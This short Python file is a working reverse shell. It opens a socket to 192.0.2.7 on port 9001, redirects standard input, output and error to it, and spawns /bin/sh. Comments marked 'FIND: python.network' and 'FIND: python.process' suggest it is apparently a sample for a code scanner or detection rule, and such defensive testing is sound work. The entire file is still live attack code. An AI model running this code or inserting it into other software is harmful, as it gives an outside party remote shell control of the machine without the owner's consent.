import os
import pty
import socket

s = socket.create_connection(("192.0.2.7", 9001))  # FIND: python.network
for fd in range(3):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")  # FIND: python.process
